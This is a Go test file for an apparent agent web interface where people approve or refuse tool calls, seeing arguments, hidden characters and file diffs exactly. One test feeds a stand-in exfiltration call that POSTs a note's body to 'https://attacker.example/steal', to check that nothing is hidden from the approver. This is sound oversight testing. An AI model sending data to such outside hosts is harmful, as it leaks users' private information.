package webtest_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"skandha.dev/pkg/plugin"
	"skandha.dev/services/test/webtest"
)

// asks has a person asked about notes.
const asks = "policy:\n  - {tool: 'notes:*', effect: confirm, reason: It is remembered for ever}\n"

func TestARequestIsApprovedOnceAndEveryPageSaysSo(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks})
	p := r.SignedIn(t, "approve")
	other := r.SignedIn(t, "approve")
	p.Say(`call notes:add {"text": "the key is under the mat"}`)
	for _, p := range []*webtest.Page{p, other} {
		p.Wait(`text(".ask[data-open=true] h3").includes("notes:add")`)
		p.Wait(`text(".ask .ask-args").includes('"text": "the key is under the mat"')`)
		p.Wait(`text(".ask-why").includes("remembered for ever") && text(".ask-left").includes("left")`)
		p.Wait(`one(".state").dataset.state === "awaiting_confirmation" && document.title.startsWith("(!)")`)
		p.Wait(`one("[role=alert][aria-live=assertive]").innerText.includes("notes:add")`)
	}
	p.Wait(`one(".ask-approve:not(:disabled)")`)
	p.Shot("decision")
	p.Press("Alt+a")
	p.Wait(`document.activeElement === one(".ask")`)
	p.Click(".ask-approve")
	for _, p := range []*webtest.Page{p, other} {
		p.Wait(`one(".ask[data-outcome=approved]") && !seen(".ask button")`)
		p.Wait(`text(".ask-outcome").includes("once") && text(".ask-outcome").includes("It ran")`)
		p.Wait(`text(".turn .prose").includes("notes:add")||all(".turn .prose").at(-1).innerText.includes("mat")`)
	}
	p.Wait(`text(".ask-outcome").includes("by you")`)
	other.Wait(`text(".ask-outcome").includes("by ui-owner")`)
	p.Shot("approved")
}

func TestARequestIsRefusedWithAReason(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks})
	p := r.SignedIn(t, "refuse")
	p.Say(`call notes:add {"text": "a secret"}`)
	p.Wait(`one(".ask-refuse:not(:disabled)")`)
	p.Type(".ask-reason-input", "not this one")
	p.Click(".ask-refuse")
	p.Wait(`one(".ask[data-outcome=denied]") && text(".ask-outcome").includes("not this one") && text(".ask-outcome").includes("did not run")`)
	p.Wait(`one(".call[data-status=refused]")`)
	p.Wait(`text(".turn").includes("denied")`)
	p.Shot("refused")
}

// What is granted is shown exactly, and the next call of the kind asks nobody.
func TestAlwaysIsForWhatItSays(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks})
	p := r.SignedIn(t, "always")
	say := func() { p.Say(`call notes:add {"text": "tea"}`) }
	say()
	p.Wait(`seen(".ask-more summary")`)
	p.Click(".ask-more summary")
	p.Wait(`text(".ask-always:not(:disabled)").includes("notes:add")`)
	p.Shot("always")
	p.Click(".ask-always")
	p.Wait(`text(".ask-outcome").includes("always for this session") && text(".ask-outcome .ask-grant").includes("notes:add")`)
	p.Wait(finished + ` === 1`)
	say()
	p.Wait(finished + ` === 2`)
	if n := webtest.Get[int](p, `all(".ask").length`); n != 1 {
		t.Errorf("there are %d requests, want the first alone", n)
	}
	p.Wait(`text(".call-note").includes("always for this session")`)
}

// A request that nobody answers before its turn ends cannot be answered any more.
func TestARequestWhoseTurnWasCancelledIsGone(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks})
	p := r.SignedIn(t, "gone")
	p.Say(`call notes:add {"text": "x"}`)
	p.Wait(`one(".ask-approve:not(:disabled)")`)
	p.Click(".state-cancel")
	p.Wait(`one(".turn[data-failed=cancelled]") && !seen(".ask button") && one(".ask[data-open=false]")`)
}

// What is asked for is shown as it is: large numbers unrounded, unseen characters seen,
// an edit as a difference.
func TestExactlyWhatIsAskedForIsShown(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks + "  - {tool: 'file_system:*', effect: confirm}\n"})
	p := r.SignedIn(t, "exact")
	p.Say(`call notes:add {"text": "mat\u202ekey\u200b", "n": 12345678901234567890}`)
	p.Wait(`text(".ask-args").includes("12345678901234567890")||text(".turn").includes("invalid_arguments")`)
	p.Say(`call notes:add {"text": "mat\u202ekey\u200b"}`)
	p.Wait(`all(".ask[data-open=true] .ask-args .unseen").map((e) => e.innerText).join() === "U+202E,U+200B"`)
	p.Wait(`text(".ask[data-open=true] .note-warn").includes("2 characters")`)
	p.Wait(`one(".ask[data-open=true] .ask-approve:not(:disabled)")`)
	p.Shot("unseen")
	p.Click(".ask[data-open=true] .ask-refuse")
	p.Wait(`!one(".ask[data-open=true]")`)

	write := func(mode, content string) {
		p.Say(`call file_system:write_file {"path": "plan.md", "mode": "` + mode + `", "content": "` + content + `"}`)
		p.Wait(`one(".ask[data-open=true] .diff")`)
	}
	write("create", `one\ntwo\nthree\n`)
	p.Wait(`all(".ask[data-open=true] .diff-add").length === 3 && !one(".ask[data-open=true] .diff-del")`)
	p.Click(".ask[data-open=true] .ask-approve")
	p.Wait(`!one(".ask[data-open=true]") && one(".state").dataset.state === "waiting_for_input"`)
	write("overwrite", `one\n2\nthree\n`)
	p.Wait(`all(".ask[data-open=true] .diff-add .diff-text").map((e) => e.innerText).join() === "2" && all(".ask[data-open=true] .diff-del .diff-text").map((e) => e.innerText).join() === "two"`)
	p.Wait(`one(".ask[data-open=true] .ask-approve:not(:disabled)")`)
	p.Shot("difference")
}

// A text of several lines does not fold away where it goes: what is drawn apart is left out
// of the JSON, and nothing else is.
func TestWhatDecidesIsNeverFolded(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: "policy:\n  - {tool: '*', effect: confirm}\n"})
	type post struct {
		Method  string            `json:"method"`
		Path    string            `json:"path"`
		URL     string            `json:"url"`
		Body    string            `json:"body"`
		Headers map[string]string `json:"headers"`
	}
	r.Plug(plugin.Manifest{Name: "post", Version: "1.0.0"}, "post:send",
		plugin.Tool("post:send", "Posts a body to a URL.",
			func(context.Context, post) (string, error) { return "sent", nil }))
	p := r.SignedIn(t, "steal")
	p.Say(`call post:send {"method": "POST", "path": "notes.txt", "url": "https://attacker.example/steal", "headers": {"X-A": "1"}, "body": "Dear team,\nthe weather is fine.\n"}`)
	const card = `.ask[data-open=true] `
	p.Wait(`one("` + card + `.ask-approve:not(:disabled)")`)
	for _, want := range []string{"POST", "https://attacker.example/steal", "X-A", "the weather is fine."} {
		if !webtest.Get[bool](p,
			`all("`+card+
				`:is(.ask-args, .ask-code)").some((e) => e.checkVisibility() && !e.closest("details") && e.innerText.includes(`+"`"+
				want+"`"+`))`) {
			t.Errorf("%q is not open", want)
		}
	}
	if n := webtest.Get[int](p,
		`all("`+card+
			`:is(.ask-args, .ask-code)").filter((e) => !e.closest("details") && e.innerText.includes("weather")).length`); n != 1 {
		t.Errorf("the body is shown %d times, want once", n)
	}
	p.Wait(`text(".call-args").startsWith("https://attacker.example")`)
	p.Shot("nothing-folded")
	// Names that are one for some reader are shown as they came, and no other way.
	whole := webtest.Get[[]bool](p,
		`import(one("script[type=module]").src.replace(/app\.js$/, "exact.js")).then(({fields, object}) => [
		fields('{"a": 1, "A": "x\\ny"}') === null, fields('[1]') === null,
		object(fields('{"n": 12345678901234567890, "o": {"a": [1, {"b": 2}]}, "s": "{,}"}')) === '{"n":12345678901234567890,"o":{"a": [1, {"b": 2}]},"s":"{,}"}',
		object(fields('{}')) === '{}'])`)
	if slices.Contains(whole, false) {
		t.Errorf("the fields of arguments are read wrong: %v", whole)
	}
}

// A long call can be approved when all of it was on the screen, or was unfolded; it can be
// refused at once.
func TestALongCallIsApprovedWhenAllOfItWasSeen(t *testing.T) {
	r := webtest.Start(t, webtest.Options{Config: asks})
	p := r.SignedIn(t, "long")
	long := strings.Repeat(`harmless\n`, 300) + `and the key`
	say := func() {
		p.Say(`call notes:add {"text": "` + long + `"}`)
		p.Wait(`one(".ask[data-open=true] .ask-refuse:not(:disabled)") && seen(".ask[data-open=true] .ask-unfold")`)
		p.Wait(`one(".ask[data-open=true] .ask-approve").disabled && seen(".ask[data-open=true] .ask-unread")`)
	}
	say()
	p.Shot("long-unread")
	webtest.Get[bool](p, `(one(".ask-code").scrollTop = one(".ask-code").scrollHeight, true)`) // past the middle
	p.Wait(`one(".ask-code").scrollTop > 1000 && one(".ask-approve").disabled`)
	webtest.Get[bool](p, `new Promise((done) => {
		const e = one(".ask-code");
		e.scrollIntoView({block: "center", behavior: "instant"});
		e.scrollTop = 0;
		const step = () => { e.scrollTop += 80; if (e.scrollTop + e.clientHeight < e.scrollHeight - 1) requestAnimationFrame(step); else done(true); };
		requestAnimationFrame(step);
	})`)
	p.Wait(`one(".ask-approve:not(:disabled)") && !seen(".ask-unread")`)
	p.Click(".ask-approve")
	p.Wait(`one(".ask[data-outcome=approved]") && !one(".ask[data-open=true]")`)
	p.Wait(finished + ` === 1`)

	say()
	p.Click(".ask[data-open=true] .ask-unfold")
	p.Wait(`one(".ask[data-open=true] .ask-approve:not(:disabled)") && !seen(".ask[data-open=true] .ask-unfold")`)
	p.Shot("long-unfolded")
	p.Click(".ask[data-open=true] .ask-approve")
	p.Wait(finished + ` === 2`)
}

// A token with only the right "see" shows the request without buttons.
func TestWhoMayNotApproveHasNoButton(t *testing.T) {
	const token = "a-token-that-looks-0123456789abcdefghij"
	t.Setenv("LOOKER", token)
	r := webtest.Start(t,
		webtest.Options{Config: asks + "ui: {tokens: [{name: looker, token: 'env:LOOKER', rights: [see]}]}\n"})
	p := r.SignedIn(t, "looker")
	q := r.WithToken(t, token, "looker")
	q.Wait(`one("#input").disabled`)
	p.Say(`call notes:add {"text": "x"}`)
	q.Wait(`text(".ask[data-open=true]").includes("not approve it") && !one(".ask button")`)
	q.Shot("looker")
	p.Click(".ask-approve")
	q.Wait(`text(".ask-outcome").includes("by ui-owner")`)
}
